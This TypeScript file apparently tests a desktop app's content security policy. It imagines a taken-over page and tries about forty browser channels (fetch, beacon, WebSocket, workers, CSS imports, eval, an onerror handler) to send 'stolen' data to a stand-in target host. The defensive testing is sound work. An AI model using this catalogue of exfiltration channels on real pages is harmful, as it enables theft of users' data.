/** Where a page that someone else has taken over would send what it read. */
export interface Target {
  readonly http: string
  readonly ws: string
}

/**
 * Tries every way out of a page that a script has, one after the other, and answers the names of those tried. What came
 * of them is for the target to say. It runs in the page, so it uses nothing around it.
 *
 * Not among them is what no policy of a page can forbid to a browser, and the desktop app does: going to another address
 * as a whole, and WebRTC.
 */
export async function tryWaysOut({ http, ws }: Target): Promise<readonly string[]> {
  const put = (name: string, attributes: Readonly<Record<string, string>>): void => {
    const element = document.createElement(name)
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
    document.body.append(element)
  }
  const sheet = (rules: string): void => {
    const made = new CSSStyleSheet()
    made.replaceSync(rules)
    document.adoptedStyleSheets.push(made)
  }
  const ways: Readonly<Record<string, () => unknown>> = {
    fetch: () => fetch(`${http}/fetch`),
    'fetch without cors': () => fetch(`${http}/no-cors`, { mode: 'no-cors' }),
    'fetch to post': () => fetch(`${http}/post`, { method: 'POST', body: 'stolen', mode: 'no-cors', keepalive: true }),
    XMLHttpRequest: () => {
      const request = new XMLHttpRequest()
      request.open('GET', `${http}/xhr`)
      request.send()
    },
    beacon: () => navigator.sendBeacon(`${http}/beacon`, 'stolen'),
    WebSocket: () => new WebSocket(`${ws}/socket`),
    EventSource: () => new EventSource(`${http}/events`),
    WebTransport: () => new WebTransport(`${http.replace('http:', 'https:')}/transport`).ready,
    image: () => {
      new Image().src = `${http}/image`
    },
    'image of a set': () => put('img', { srcset: `${http}/srcset 2x` }),
    picture: () => put('input', { type: 'image', src: `${http}/input` }),
    script: () => put('script', { src: `${http}/script` }),
    'module script': () => put('script', { type: 'module', src: `${http}/module` }),
    import: () => import(/* @vite-ignore */ `${http}/import`),
    stylesheet: () => put('link', { rel: 'stylesheet', href: `${http}/stylesheet` }),
    preload: () => put('link', { rel: 'preload', as: 'image', href: `${http}/preload` }),
    modulepreload: () => put('link', { rel: 'modulepreload', href: `${http}/modulepreload` }),
    prefetch: () => put('link', { rel: 'prefetch', href: `${http}/prefetch` }),
    manifest: () => put('link', { rel: 'manifest', href: `${http}/manifest` }),
    icon: () => put('link', { rel: 'icon', href: `${http}/icon` }),
    'background of a rule': () => sheet(`body { background-image: url(${http}/background) }`),
    'cursor of a rule': () => sheet(`body { cursor: url(${http}/cursor), auto }`),
    'rule that imports': () => sheet(`@import url(${http}/rule)`),
    'font of a rule': () => sheet(`@font-face { font-family: x; src: url(${http}/font) } body { font-family: x }`),
    font: () => new FontFace('y', `url(${http}/face)`).load(),
    frame: () => put('iframe', { src: `${http}/frame` }),
    'frame of a document': () => put('iframe', { srcdoc: `<img src="${http}/srcdoc">` }),
    object: () => put('object', { data: `${http}/object` }),
    embed: () => put('embed', { src: `${http}/embed` }),
    video: () => put('video', { src: `${http}/video`, poster: `${http}/poster`, preload: 'auto' }),
    audio: () => put('audio', { src: `${http}/audio`, preload: 'auto' }),
    'picture in a drawing': () => {
      const drawing = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
      image.setAttribute('href', `${http}/svg`)
      drawing.append(image)
      document.body.append(drawing)
    },
    worker: () => new Worker(`${http}/worker`),
    'worker of a blob': () => new Worker(URL.createObjectURL(new Blob([`fetch("${http}/blob")`]))),
    'shared worker': () => new SharedWorker(`${http}/shared`),
    'service worker': () => navigator.serviceWorker.register(`${http}/service`),
    form: () => {
      put('form', { action: `${http}/form`, method: 'post' })
      document.forms[document.forms.length - 1]?.submit()
    },
    // oxlint-disable-next-line no-eval -- the policy has to stop it
    'evaluated code': () => globalThis.eval(`fetch("${http}/eval")`),
    // oxlint-disable-next-line typescript/no-implied-eval -- the policy has to stop it
    'code in a timer': () => setTimeout(`fetch("${http}/timer")`, 0),
    'code in markup': () => {
      document.body.insertAdjacentHTML('beforeend', `<img src="${http}/markup">`)
    },
    'code in a handler': () => put('img', { src: 'x', onerror: `fetch("${http}/handler")` }),
  }
  for (const way of Object.values(ways)) {
    try {
      await Promise.race([way(), new Promise((resolve) => setTimeout(resolve, 200))])
    } catch {
      // It was refused, which is the point; whether it was not is for the target to say.
    }
  }
  return Object.keys(ways)
}
